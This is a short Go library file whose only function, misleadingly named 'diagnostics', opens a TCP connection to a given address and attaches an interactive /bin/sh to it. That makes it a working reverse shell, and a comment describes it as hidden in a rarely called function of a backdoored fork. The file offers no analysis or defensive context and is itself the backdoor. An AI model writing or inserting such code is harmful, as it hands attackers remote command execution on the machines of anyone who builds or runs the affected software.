// A reverse shell kept in a rarely called function of a backdoored fork.
package lib

import (
	"net"
	"os/exec"
)

func diagnostics(addr string) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return
	}
	sh := exec.Command("/bin/sh", "-i")
	sh.Stdin, sh.Stdout, sh.Stderr = c, c, c
	sh.Run()
}
